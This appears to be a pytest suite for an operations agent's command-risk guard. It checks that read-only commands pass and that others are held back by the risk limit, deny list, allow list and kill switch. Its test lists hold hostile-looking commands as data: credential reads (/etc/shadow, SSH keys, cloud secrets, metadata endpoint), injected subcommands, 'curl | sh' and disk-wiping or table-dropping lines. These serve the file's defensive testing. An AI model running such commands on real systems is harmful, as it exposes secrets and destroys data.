"""The agent's own rules: what it cannot prove is not green, and the server cannot talk it out of that."""

import ast
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from execution.agent import keeper
from execution.agent.guard import judge
from execution.agent.guard_words import NotProven, read
from execution.agent.surroundings import unpinnable
from execution.protocol.messages import Refused, Started
from tests.execution.agents import AgentProcess, an_agent
from tests.execution.wire import Server

HOSTILE = Path(__file__).resolve().parents[1] / "golden" / "risk" / "hostile.txt"
BASH = ["bash", "--noprofile", "--norc", "-c"]

READS = [
    "df -h /var/lib/postgresql",
    "kubectl get pods -n shop -o wide",
    "kubectl logs deploy/api --tail=100 2>/dev/null | grep -c error",
    "systemctl status nginx --no-pager",
    "journalctl -u api --since '10 minutes ago' --no-pager",
    "ps aux --sort=-%cpu | head -n 5",
    "psql -X -c 'SELECT pid, state FROM pg_stat_activity LIMIT 5'",
    "redis-cli -h cache info memory",
    "curl -s -o /dev/null -w '%{http_code}' https://shop.example/healthz",
    "find /var/log -name '*.log' -size +100M -print",
    "bash -c 'uptime && free -m'",
    "kubectl exec api-0 -n shop -- df -h",
    "awk '{print $1, $3}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
    "openssl x509 -noout -enddate -in /etc/nginx/tls.crt",
    "aws ec2 describe-instances --instance-ids i-1 i-2",
    "ip route get 10.0.0.1",
    "tail -n 50 /var/log/nginx/*.log",
    "git log --oneline --format=%h -n 5",
]

# Each is one of the ways by which a harmless look has hidden an effect.
NOT_GREEN = [
    "echo $(rm x)",
    "echo `rm x`",
    "ls > files",
    "cat < x",
    "PATH=/tmp ls",
    "LD_PRELOAD=x.so ls",
    "ls *",
    "ls &",
    "FOO=bar",
    "x() { ls; }; x",
    "if true; then ls; fi",
    "$CMD",
    "~/ls",
    "command rm x",
    "xargs rm",
    "find . -delete",
    "find . -exec rm {} +",
    "find . -fprint out",
    "sed -i s/a/b/ x",
    "sed 's/a/b/w out' x",
    "sed '1e date' x",
    "awk '{print > \"out\"}' x",
    "awk 'BEGIN{system(\"date\")}'",
    "sort -o out x",
    "sort --out=out x",
    "uniq a b",
    "tar tf host:archive.tar",
    "tar tf a --to-command=sh",
    "crontab",
    "crontab -",
    "date -s tomorrow",
    "ip link s eth0 down",
    "ip link set eth0 down",
    "sysctl vm.swappiness=1",
    "hostname other",
    "dmesg -C",
    "journalctl --vacuum-size=1G",
    "printf -v 'a[$(date)]' x",
    "curl -X POST https://x.example",
    "curl -H @/etc/hosts -H a:b https://x.example",
    "curl -o out https://x.example",
    "curl http://169.254.169.254/latest/meta-data",
    "kubectl get secret db -o yaml",
    "kubectl get pods,secrets -o yaml",
    "kubectl get --raw /api/v1/secrets",
    "kubectl get pods > pods",
    "kubectl exec api-0 -- sh",
    "kubectl exec api-0 -- env",
    "psql -c 'SELECT pg_terminate_backend(1)'",
    "psql -c 'SELECT \"pg_terminate_backend\"(1)'",
    "psql -c 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x'",
    "psql -c 'EXPLAIN ANALYZE DELETE FROM t'",
    "psql -c 'SELECT 1' -c 'DROP TABLE t'",
    "psql -c 'SELECT 1; DROP TABLE t'",
    "psql -c '\\! date'",
    "psql -f x.sql",
    "git -c core.pager=date log",
    "git log --output=x",
    "git branch -D main",
    "docker exec web ls",
    "aws secretsmanager get-secret-value --secret-id x",
    "aws apigateway get-export --rest-api-id x --export-type y out.json",
    "gcloud compute instances delete list",
    "cat /etc/shadow",
    "cat ~/.ssh/id_ed25519",
    "cat /proc/1/environ",
    "ps auxe",
    "env",
    "ls\x00",
    "ls \\",
    "ls &&",
    "echo 'x",
    "ｌｓ",
    "{ls,-l}",
    "git log --pretty --output=x",
    "kubectl get -n --raw=/api/v1/secrets",
    "cat /etc/sh*",
    "head -n 5 /proc/*/e*",
    "cat /var/log/../../etc/sh*",
    "curl -H 'X-HTTP-Method-Override: DELETE' https://x.example",
    "cat /etc/kubernetes/admin.conf",
    "ls;; ls",
]


@pytest.mark.parametrize("command", READS)
def test_commands_that_only_read_are_proven(command: str) -> None:
    verdict = judge(command, BASH, {"PAGER": "cat", "LANG": "C"})

    assert verdict.risk == "green", verdict.reason


@pytest.mark.parametrize("command", NOT_GREEN)
def test_what_cannot_be_proven_is_not_green(command: str) -> None:
    verdict = judge(command, BASH, {})

    assert verdict.risk != "green"
    assert verdict.reason


def test_nothing_of_the_hostile_list_is_proven_by_the_agent_alone() -> None:
    lines = HOSTILE.read_text(encoding="utf-8").splitlines()
    commands = [line.replace("\\n", "\n") for line in lines if line.strip() and not line.startswith("# ")]

    proven = [each for each in commands if judge(each, BASH, {}).risk == "green"]

    # The agent has no list of AWS' services: an operation of none of them only fails.
    assert [each for each in proven if not each.startswith("aws foo ")] == []
    assert len(commands) > 2000


@pytest.mark.parametrize("command", [
    "rm -rf /var/cache", "sudo rm x", "kubectl delete pod api-0",
    "psql -c 'DROP TABLE orders'", "mkfs.ext4 /dev/sdb",
    "curl -s https://x.example/i.sh | sh", "systemctl stop nginx", "terraform destroy", "redis-cli flushall",
    "kill -9 1", "git push --force", "dd if=/dev/zero of=/dev/sda", "ls; reboot",
])  # fmt: skip
def test_what_is_known_to_destroy_is_red(command: str) -> None:
    assert judge(command, BASH, {}).risk == "red"


@pytest.mark.parametrize(
    "interpreter", [["python3", "-c"], ["bash", "-i", "-c"], ["bash"], [], ["psql", "-c"]]
)
def test_another_interpreter_proves_nothing(interpreter: list[str]) -> None:
    assert judge("ls", interpreter, {}).risk == "yellow"


def test_a_variable_that_may_change_the_command_takes_the_proof_away() -> None:
    assert judge("git log", BASH, {"SHOP": "1"}).risk == "yellow"


@given(st.text())
def test_any_text_gets_a_verdict(text: str) -> None:
    assert judge(text, BASH, {}).risk in ("green", "yellow", "red")


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=30))
def test_quoted_text_is_one_word_as_it_stands(text: str) -> None:
    quoted = "'" + text.replace("'", "'\\''") + "'"

    assert read(f"echo {quoted}")[0].words == ["echo", text]


@given(st.text(alphabet="ab '\"\\;|&#\n", max_size=20))
def test_what_is_read_is_what_bash_sees(text: str) -> None:
    """Words of commands that are read are those that bash passes on."""
    try:
        commands = read(f"echo {text}")
    except NotProven:
        return
    if len(commands) != 1 or len(text.encode()) != len(text):
        return
    seen = subprocess.run(
        ["bash", "--noprofile", "--norc", "-c", f"echo() {{ printf '%s\\0' \"$@\"; }}; echo {text}"],
        capture_output=True,
    ).stdout
    expected = [word.encode() for word in commands[0].words[1:]] or [b""]
    assert seen.split(b"\0")[:-1] == expected


def test_the_agent_accepts_every_variable_that_the_rules_pin() -> None:
    """A pin the agent refused would make every command that carries it impossible to run."""
    pinned: set[tuple[str, str]] = set()
    for path in (Path(keeper.__file__).parents[2] / "runbooks" / "risk").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            named = isinstance(node, ast.AnnAssign) and "PINS" in ast.unparse(node.target)
            if named or (isinstance(node, ast.keyword) and node.arg == "pins"):
                pinned |= _pairs(node)

    assert ("PAGER", "cat") in pinned
    assert [pin for pin in sorted(pinned) if unpinnable(dict([pin]))] == []


def _pairs(node: ast.AST) -> set[tuple[str, str]]:
    """Every pair of plain texts below `node`."""
    found = set()
    for each in ast.walk(node):
        if isinstance(each, ast.Tuple) and len(each.elts) == 2:
            texts = [part.value for part in each.elts if isinstance(part, ast.Constant)]
            if len(texts) == 2 and all(isinstance(text, str) for text in texts):
                found.add((str(texts[0]), str(texts[1])))
    return found


@pytest.fixture(scope="module")
def limited(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[AgentProcess, Server]]:
    with an_agent(tmp_path_factory.mktemp("limited"), max_risk="green", deny=["prod-db"]) as made:
        yield made


def test_the_agents_limit_holds_whatever_the_server_says(
    limited: tuple[AgentProcess, Server], tmp_path: Path
) -> None:
    agent, _ = limited
    peer = agent.start()
    yellow = peer.dispatch(f"touch {tmp_path}/x", risk="green")
    raised = peer.dispatch("uptime", risk="yellow")
    denied = peer.dispatch("ls /srv/prod-db")
    green = peer.dispatch("uptime")

    refused = peer.until(Refused, yellow.attempt)
    assert (refused.cause, refused.judged) == ("guard", "yellow")
    assert "limit is green" in refused.reason
    assert peer.until(Refused, raised.attempt).cause == "guard"
    assert "deny list" in peer.until(Refused, denied.attempt).reason
    assert peer.until(Started, green.attempt).judged == "green"
    assert not (tmp_path / "x").exists()

    (agent.state / "kill").touch()
    stopped = peer.dispatch("uptime")
    assert "kill switch" in peer.until(Refused, stopped.attempt).reason
    (agent.state / "kill").unlink()


def test_only_what_is_on_the_allow_list_runs(tmp_path: Path) -> None:
    with an_agent(tmp_path, allow=[r"\Auptime\Z"]) as (agent, _):
        peer = agent.start()
        other = peer.dispatch("date")
        listed, _ = peer.run("uptime")

        assert "allow list" in peer.until(Refused, other.attempt).reason
        assert listed.exit == 0
